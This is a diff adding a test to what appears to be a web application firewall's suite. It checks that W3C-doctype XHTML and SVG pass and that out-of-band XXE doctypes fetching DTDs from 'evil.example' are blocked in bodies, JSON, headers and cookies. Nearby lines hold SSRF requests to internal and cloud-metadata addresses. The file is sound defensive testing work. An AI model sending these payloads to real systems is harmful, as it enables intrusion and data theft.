@@ -479,3 +479,21 @@ def test_intranet_applications_reached_by_a_private_address_pass():
     assert inspect(Request.make("GET", "/fetch?url=http://10.1.2.3:6379/", page)).blocked
     assert inspect(Request.make("GET", "/preview", {"User-Agent": UA, "X-Forwarded-Url": "http://169.254.169.254/latest/meta-data/"})).blocked
     assert inspect(Request.make("GET", "/preview", {"User-Agent": UA, "X-Fetch-Url": "http://192.168.1.1/admin/"})).blocked
+
+
+def test_xhtml_templates_and_svg_files_naming_w3c_dtds_pass_the_external_dtd_rules():
+    """E-mail templates start with XHTML's doctype and SVG files with SVG 1.1's: both name a W3C DTD
+    that no HTML parser fetches. A doctype whose PUBLIC or SYSTEM identifier points elsewhere makes an
+    XML parser fetch it (out-of-band XXE), in a body, a JSON value, a header or a cookie."""
+    xhtml = ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
+             '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body><p>Hi {{name}}</p></body></html>')  # fmt: skip
+    assert passes(Request.make("POST", "/api/templates", XHR, json.dumps({"subject": "Welcome", "html": xhtml})))
+    svg = ('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+           '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>')  # fmt: skip
+    assert passes(Request.make("POST", "/upload", {"User-Agent": UA, "Content-Type": "image/svg+xml"}, svg))
+    for dtd in ('<!DOCTYPE foo PUBLIC "-//X//Y" "http://evil.example/a.dtd"><foo/>',
+                '<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>'):  # fmt: skip
+        assert not passes(Request.make("POST", "/x", {"User-Agent": UA, "Content-Type": "application/xml"}, dtd))
+        assert not passes(Request.make("POST", "/api/templates", XHR, json.dumps({"html": dtd})))
+        assert not passes(Request.make("GET", "/", {"User-Agent": UA, "X-Custom-Data": dtd}))
+        assert not passes(Request.make("GET", "/", {"User-Agent": UA, "Cookie": "pref=" + quote(dtd)}))
